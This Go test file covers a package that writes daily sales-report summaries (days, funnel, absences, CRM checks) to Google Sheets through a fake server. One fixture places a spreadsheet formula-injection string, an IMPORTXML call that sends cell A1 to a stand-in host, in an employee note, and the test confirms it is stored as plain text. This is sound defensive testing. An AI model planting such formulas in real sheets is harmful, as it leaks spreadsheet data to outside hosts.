package gsheet_test

import (
	"fmt"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"google.golang.org/api/option"
	"google.golang.org/api/sheets/v4"

	"github.com/dayreport/dayreport/pkg/day"
	"github.com/dayreport/dayreport/pkg/funnel"
	"github.com/dayreport/dayreport/pkg/googlefake"
	"github.com/dayreport/dayreport/pkg/report"
	"github.com/dayreport/dayreport/pkg/summary"
	"github.com/dayreport/dayreport/pkg/summary/gsheet"
)

var from = day.MustParse("2026-11-16")

func model(employees, days int) *summary.Model {
	tmpl := report.MustBuiltin("sales-ru")
	m := &summary.Model{Lang: "ru", From: from, To: from.AddDays(days - 1), Names: map[string]string{}}
	for _, mt := range tmpl.Metrics {
		if mt.Type == report.Count || mt.Type == report.Rating {
			m.Columns = append(m.Columns, summary.Column{Key: mt.Key, Label: mt.Label("ru"), Rating: mt.Type == report.Rating})
		}
	}
	win := funnel.Window{From: m.From, To: m.To, Employees: map[string]funnel.Totals{}}
	for d := range days {
		for e := range employees {
			id := fmt.Sprintf("e%04d", e)
			m.Names[id] = "Сотрудник " + id
			row := summary.DayRow{Date: from.AddDays(d), Employee: id, Name: m.Names[id], Status: report.Submitted,
				StatusLabel: report.Submitted.Label("ru"), Metrics: map[string]float64{"new_calls": 20, "repeat_calls": 6,
					"proposals_sent": 3, "invoices_issued": 2, "contracts_signed": 1, "payments": 1, "company_rating": 4.5}}
			if e == 1 {
				row.Status, row.StatusLabel, row.Metrics = report.Absent, report.Absent.Label("ru"), nil
				m.Absences = append(m.Absences, row)
			}
			if e == 2 {
				row.Notes = `=IMPORTXML("http://x/?"&A1, "//a")`
			}
			m.Days = append(m.Days, row)
			t := win.Employees[id]
			if row.Metrics != nil {
				t.Add(row.Metrics, tmpl.Rating)
			}
			win.Employees[id] = t
		}
	}
	m.Funnel = funnel.Compute(tmpl, win, funnel.Window{}, funnel.Options{})
	r, c := 40.0, 12.0
	m.Checks = []summary.CheckRow{{Date: from, Employee: "e0000", Name: "Сотрудник e0000", Code: "overstated", Metric: "new_calls",
		MetricLabel: "Новые звонки", Reported: &r, Recorded: &c, Message: "«Новые звонки»: в отчёте 40, в CRM 12"}}
	return m
}

func writer(t *testing.T) (*googlefake.Server, *gsheet.Writer) {
	t.Helper()
	fake := googlefake.New(t, googlefake.Options{Quotas: googlefake.Quotas{SheetsReadPerMinute: -1, SheetsWritePerMinute: -1}})
	svc, err := sheets.NewService(t.Context(), option.WithEndpoint(fake.URL+"/"), option.WithoutAuthentication(), option.WithHTTPClient(fake.Client()))
	require.NoError(t, err)
	return fake, gsheet.New(svc)
}

func TestWriteReadBack(t *testing.T) {
	t.Parallel()
	fake, w := writer(t)
	fake.PutSheet("1mgr", "Отдел", []googlefake.Tab{{Title: "Мои заметки", SheetID: 0, Rows: [][]any{{"не трогать"}}}})
	m := model(3, 2)
	require.NoError(t, w.Write(t.Context(), "https://docs.google.com/spreadsheets/d/1mgr/edit#gid=0", m))
	require.Equal(t, []string{"Мои заметки", "Сводка", "Воронка", "Отсутствия", "Проверка"}, fake.SheetTitles("1mgr"))
	require.Equal(t, [][]any{{"не трогать"}}, fake.Cells("1mgr", "Мои заметки"), "a foreign tab is untouched")

	days := fake.CellData("1mgr", "Сводка")
	require.Len(t, days, 7, "a header and 3 × 2 rows")
	require.Equal(t, "Дата", *days[0][0].UserEnteredValue.StringValue)
	require.InDelta(t, 46342, *days[1][0].UserEnteredValue.NumberValue, 0, "16.11.2026 as a serial date")
	require.Equal(t, "DATE", days[1][0].UserEnteredFormat.NumberFormat.Type)
	require.InDelta(t, 20, *days[1][4].UserEnteredValue.NumberValue, 0, "new_calls is a number")
	require.True(t, days[2][4] == nil || days[2][4].UserEnteredValue == nil, "an absent day has empty metric cells")
	note := days[3][4+len(m.Columns)]
	require.Equal(t, `=IMPORTXML("http://x/?"&A1, "//a")`, *note.UserEnteredValue.StringValue, "user text stays text")
	require.Nil(t, note.UserEnteredValue.FormulaValue)

	fun := fake.Cells("1mgr", "Воронка")
	require.Equal(t, "Этап", fun[1][0])
	require.Equal(t, "Звонки", fun[2][0])
	charts := fake.Charts("1mgr")
	require.Len(t, charts, 1)
	require.Equal(t, "BAR", charts[0].Spec.BasicChart.ChartType)
	require.Len(t, fake.Rules("1mgr", "Сводка"), 2, "absent and late rows coloured")
	checks := fake.Cells("1mgr", "Проверка")
	require.Len(t, checks, 2)
	require.Equal(t, "«Новые звонки»: в отчёте 40, в CRM 12", checks[1][6])
	require.Len(t, fake.Cells("1mgr", "Отсутствия"), 3, "a header and the absent employee's two days")
	require.Len(t, fake.Rules("1mgr", "Отсутствия"), 2)

	// A second write with fewer rows: one chart, the same rules, no old rows.
	require.NoError(t, w.Write(t.Context(), "1mgr", model(2, 1)))
	require.Len(t, fake.Charts("1mgr"), 1)
	require.Len(t, fake.Rules("1mgr", "Сводка"), 2)
	require.Len(t, fake.Cells("1mgr", "Сводка"), 3)
	require.Equal(t, [][]any{{"не трогать"}}, fake.Cells("1mgr", "Мои заметки"))
}

// TestConstantCost: a write is one get and one batchUpdate for 10 or 100
// employees × 10 days; 1000 employees (their funnel blocks alone pass 2 MB)
// are split under Google's 2 MB guidance, every row still written.
func TestConstantCost(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ n, days, requests int }{{10, 10, 2}, {100, 10, 2}, {1000, 1, 0}, {1000, 10, 0}} {
		fake, w := writer(t)
		fake.PutSheet("1mgr", "Отдел", []googlefake.Tab{{Title: "Лист1", SheetID: 0}})
		start := time.Now()
		require.NoError(t, w.Write(t.Context(), "1mgr", model(c.n, c.days)))
		got := len(fake.Requests())
		t.Logf("%d employees × %d days: %d requests, %v", c.n, c.days, got, time.Since(start))
		if c.requests > 0 {
			require.Equal(t, c.requests, got, "%d employees", c.n)
		} else {
			require.Less(t, got, 10)
		}
		require.Len(t, fake.Cells("1mgr", "Сводка"), c.n*c.days+1)
	}
}

func TestErrors(t *testing.T) {
	t.Parallel()
	_, w := writer(t)
	err := w.Write(t.Context(), "1missing", model(1, 1))
	require.ErrorContains(t, err, "summary sheet 1missing: not found")
}
